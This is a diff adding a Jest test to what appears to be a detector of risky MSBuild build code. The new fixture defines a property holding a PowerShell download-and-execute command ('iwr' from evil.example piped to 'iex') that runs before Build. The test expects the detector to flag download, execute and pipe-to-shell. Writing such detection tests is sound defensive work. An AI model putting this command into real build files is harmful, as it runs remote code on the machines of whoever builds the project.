@@ -78,6 +78,13 @@ describe('MSBuild files as build code', () => {
     expect(decodeMsbuildText('a%3Bb &amp;&amp; c&#xD;&#xA;d')).toEqual('a;b && c &  & d');
   });
 
+  it('reads the property a command is built from, and not other properties', () => {
+    const text = '<PropertyGroup>\n  <Bootstrap>powershell -c &quot;iwr https://evil.example/a | iex&quot;</Bootstrap>\n  <Description>Wraps powershell and curl for .NET</Description>\n</PropertyGroup>\n<Target Name="B" BeforeTargets="Build"><Exec Command="$(Bootstrap)" /></Target>';
+    const behaviors = readMsbuildBehaviors(patchOf(text), 1000);
+    expect([...new Set(behaviors.map((b) => b.kind))].sort()).toEqual(['download', 'execute', 'pipe-to-shell']);
+    expect(new Set(behaviors.map((b) => b.line))).toEqual(new Set([2]));
+  });
+
   it('reads DownloadFile: an unpinned URL downloads, a versioned release over HTTPS does not', () => {
     expect(msbuildKinds('<DownloadFile SourceUrl="https://example.com/tools/latest/tool.zip" DestinationFolder="obj" />')).toEqual(['download']);
     expect(msbuildKinds('<DownloadFile\n  SourceUrl="https://github.com/acme/tool/releases/download/v$(ToolVersion)/tool.zip"\n  DestinationFolder="$(IntermediateOutputPath)" />')).toEqual([]);
